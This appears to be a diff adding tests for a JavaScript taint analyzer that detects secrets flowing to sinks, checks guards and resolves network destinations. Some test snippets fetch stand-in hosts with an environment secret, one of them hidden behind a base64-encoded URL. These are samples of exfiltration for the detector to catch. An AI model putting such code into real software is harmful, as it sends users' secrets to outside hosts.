@@ -1,0 +1,126 @@
+// Guards, destinations and function-level sources/sinks.
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import { functionNamed, pairs, programOf, runTaint, TEST_MODEL } from "./support/taint-harness.js";
+import { link } from "../analyzer/program/index.js";
+import { analyzeTaint } from "../analyzer/taint/index.js";
+import { emptyFacts } from "../analyzer/acquire/manifest.js";
+
+const guardCases: [string, string, string[]][] = [
+  ["no guard", `sink(process.env.A);`, ["A→test@1"]],
+  ["early throw on literal inequality", `const x = process.env.A;\nif (x !== "a") throw new Error("no");\nsink(x);`, ["A→test@3 (guard:literal-equality)"]],
+  ["allow-list includes", `const ALLOWED = ["a", "b"];\nconst x = process.env.A;\nif (!ALLOWED.includes(x)) return;\nsink(x);`, ["A→test@4 (guard:allow-list)"]],
+  ["guarded branch only", `const x = process.env.A;\nif (/^[a-z]+$/.test(x)) { sink(x); } else { sink(x); }`, ["A→test@2", "A→test@2 (guard:regex-match)"]],
+  ["unanchored regex is no guard", `const x = process.env.A;\nif (/[a-z]/.test(x)) sink(x);`, ["A→test@2"]],
+  ["startsWith(root + sep) contains", `const path = require("path");\nconst p = path.resolve(root, process.env.A);\nif (!p.startsWith(root + path.sep)) throw new Error("outside");\nsink(p);`, ["A→test@4 (guard:path-containment)"]],
+  ["bare startsWith(root) does not", `const path = require("path");\nconst p = path.resolve(root, process.env.A);\nif (!p.startsWith(root)) throw new Error("outside");\nsink(p);`, ["A→test@4"]],
+  ["path.relative guard", `const path = require("path");\nconst p = process.env.A;\nconst rel = path.relative(root, p);\nif (rel.startsWith("..") || path.isAbsolute(rel)) throw new Error("outside");\nsink(p);`, ["A→test@5 (guard:path-containment)"]],
+  ["some() with separator", `const path = require("path");\nconst p = path.resolve(process.env.A);\nif (!dirs.some((d) => p === d || p.startsWith(d + path.sep))) throw new Error("denied");\nsink(p);`, ["A→test@4 (guard:path-containment)"]],
+  ["some() without separator", `const path = require("path");\nconst p = path.resolve(process.env.A);\nif (!dirs.some((d) => p.startsWith(d))) throw new Error("denied");\nsink(p);`, ["A→test@4"]],
+  ["guard inside a helper carries to the caller", `const path = require("path");\nfunction check(p) { const r = path.resolve(p); if (!r.startsWith(ROOT + "/")) throw new Error("x"); return r; }\nsink(check(process.env.A));`, ["A→test@3 (guard:path-containment)"]],
+  ["switch on literals", `const x = process.env.A;\nswitch (x) { case "a": sink(x); break; default: break; }`, ["A→test@2 (guard:literal-equality)"]],
+  ["validator by name", `const x = process.env.A;\nif (!isValidBranchName(x)) throw new Error("bad");\nsink(x);`, ["A→test@3 (guard:sanitizer-call)"]],
+  ["typeof number", `const x = process.env.A;\nif (typeof x === "number") sink(x);`, ["A→test@2 (guard:type-check)"]],
+  ["guard on a member", `const args = { p: process.env.A };\nif (!["x", "y"].includes(args.p)) throw new Error("no");\nsink(args.p);`, ["A→test@3 (guard:allow-list)"]],
+];
+
+for (const [name, code, expected] of guardCases) {
+  test(`guards: ${name}`, () => {
+    assert.deepEqual(pairs(runTaint({ "main.js": wrap(code) }), { guards: true }).map(shift), expected);
+  });
+}
+
+/** Guards need a function body (early `return`); the test code is wrapped and lines shifted back. */
+function wrap(code: string): string {
+  return `function main(root, dirs, ROOT) {\n${code}\n}\nmain();`;
+}
+function shift(pair: string): string {
+  return pair.replace(/@(\d+)/, (_, n: string) => `@${Number(n) - 1}`);
+}
+
+test("destination: constant host, configured host, hidden host", () => {
+  const r = runTaint({
+    "main.js": [
+      `const key = process.env.A;`,
+      `fetch("https://api.vendor.example/v1/x", { headers: { k: key } });`,
+      `fetch((process.env.BASE_URL ?? "https://default.example") + "/v1", { body: key });`,
+      `fetch(Buffer.from("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUubmV0", "base64").toString() + "/c", { body: key });`,
+      `fetch(["https://", "x", ".example"].join("") + "/p?q=" + key, {});`,
+      `fetch(unknownUrl(), { body: key });`,
+    ].join("\n"),
+  });
+  const dests = r.hitsOf("net").map((h) => ({ line: h.location.line, ...h.destination! }));
+  assert.deepEqual(
+    dests.map((d) => [d.line, d.constants, d.prefixOnly, d.configuredBy, d.unresolved]),
+    [
+      [2, ["https://api.vendor.example/v1/x"], false, [], false],
+      [3, ["https://default.example/v1"], false, ["BASE_URL"], false],
+      [4, ["https://collect.example.net/c"], false, [], false],
+      [6, [], false, [], true],
+    ],
+  );
+  const url = r.hitsOf("net-url");
+  assert.deepEqual(url.map((h) => [h.location.line, h.destination!.constants, h.destination!.tainted.map((l) => l.name)]), [[5, ["https://x.example/p?q="], ["A"]]]);
+});
+
+test("function sources and sinks: handler arguments to output, throws escaping", () => {
+  const code = [
+    `async function handler(args) {`,
+    `  if (!args.ok) throw new Error("bad token " + process.env.A);`,
+    `  return { content: [{ type: "text", text: args.q + process.env.B }] };`,
+    `}`,
+    `function other(x) { return x; }`,
+  ].join("\n");
+  const { modules } = programOf({ "main.js": code });
+  const program = link(modules, emptyFacts());
+  const fn = functionNamed(modules, "handler")!;
+  const result = analyzeTaint(program, {
+    models: [TEST_MODEL],
+    functionSources: [{ fn, module: modules[0], params: [0], kind: "tool-argument", name: "search" }],
+    functionSinks: [
+      { fn, module: modules[0], what: "return", kind: "tool-output", name: "search" },
+      { fn, module: modules[0], what: "throw", kind: "tool-throw", name: "search" },
+    ],
+  });
+  assert.deepEqual(pairs(result), ["A→tool-throw@2", "B→tool-output@3", "search→tool-output@3"]);
+  const flow = result.hitsOf("tool-output")[0].flows.find((f) => f.label.kind === "tool-argument")!;
+  assert.equal(flow.field, "q");
+  assert.deepEqual(result.escapingThrows(fn).map((f) => f.label.name), ["A"]);
+  assert.deepEqual(result.escapingThrows(functionNamed(modules, "other")!), []);
+});
+
+test("reachableApis follows the call graph", () => {
+  const code = [`import { exec } from "node:child_process";`, `import fs from "node:fs";`, `function run(c) { exec(c); }`, `function tool(a) { run(a); fs.readFileSync("x"); }`, `function quiet() { return 1; }`].join("\n");
+  const { modules } = programOf({ "main.js": code });
+  const result = analyzeTaint(link(modules, emptyFacts()), { models: [TEST_MODEL] });
+  assert.deepEqual([...result.reachableApis(functionNamed(modules, "tool")!)].sort(), ["child_process Member[exec]", "fs Member[readFileSync]"]);
+  assert.deepEqual([...result.reachableApis(functionNamed(modules, "quiet")!)], []);
+});
+
+test("constantsOf resolves through variables and decoding", () => {
+  const code = `const host = "collect" + ".example";\nconst u = \`https://\${host}/x\`;\nuse(u);\nuse(String.fromCharCode(104, 105));`;
+  const { modules } = programOf({ "main.js": code });
+  const result = analyzeTaint(link(modules, emptyFacts()), { models: [] });
+  const calls: import("@typescript-eslint/types").TSESTree.Node[] = [];
+  for (const s of modules[0].ast.body) if (s.type === "ExpressionStatement" && s.expression.type === "CallExpression") calls.push(s.expression.arguments[0]);
+  assert.deepEqual(result.constantsOf(calls[0], modules[0]), ["https://collect.example/x"]);
+  assert.deepEqual(result.constantsOf(calls[1], modules[0]), ["hi"]);
+});
+
+test("10,000 nested expressions: a diagnostic, not a crash", () => {
+  const deep = "(".repeat(10_000) + "process.env.A" + ")".repeat(10_000);
+  const nested = Array.from({ length: 3000 }, () => "[").join("") + "process.env.A" + Array.from({ length: 3000 }, () => "]").join("");
+  for (const code of [`sink(${deep});`, `sink(${nested});`]) {
+    const { modules } = programOf({ "main.js": code });
+    if (modules.length === 0) continue; // the parser itself refused: also not a crash
+    const result = analyzeTaint(link(modules, emptyFacts()), { models: [TEST_MODEL] });
+    assert.ok(Array.isArray(result.hits));
+  }
+});
+
+test("work bound: says the analysis is incomplete instead of hanging", () => {
+  const code = Array.from({ length: 200 }, (_, i) => `function f${i}(x) { return f${i + 1}(x) + f${i + 1}(x); }`).join("\n") + `\nsink(f0(process.env.A));`;
+  const { modules } = programOf({ "main.js": code });
+  const result = analyzeTaint(link(modules, emptyFacts()), { models: [TEST_MODEL] }, { workBudget: 20_000 });
+  assert.ok(result.incomplete.length > 0);
+});
